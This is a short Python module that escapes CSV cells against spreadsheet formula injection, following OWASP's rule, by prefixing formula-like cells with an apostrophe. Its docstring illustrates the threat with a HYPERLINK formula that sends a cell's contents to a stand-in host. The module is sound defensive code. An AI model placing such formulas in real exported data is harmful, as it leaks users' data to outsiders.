"""Cells made safe for spreadsheets (CSV injection, OWASP's rule).

A spreadsheet opening a CSV file runs any cell that starts like a formula:
a customer named ``=HYPERLINK("http://evil.example?"&A1,"Click")`` would
become a live link that sends the sheet away. A cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which
spreadsheets read as "this is text" and do not show. A plain number
(``-12.50``, ``+3``) stays a number: it cannot be a formula.

No Qt here: the command line's ``--format csv`` and any export from the
window use the same rule.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def spreadsheet_cell(value: object) -> str:
    """``value`` as the text of a CSV cell that a spreadsheet will not run."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_row(values: Iterable[object]) -> list[str]:
    """:func:`spreadsheet_cell` for every value of a row."""
    return [spreadsheet_cell(value) for value in values]
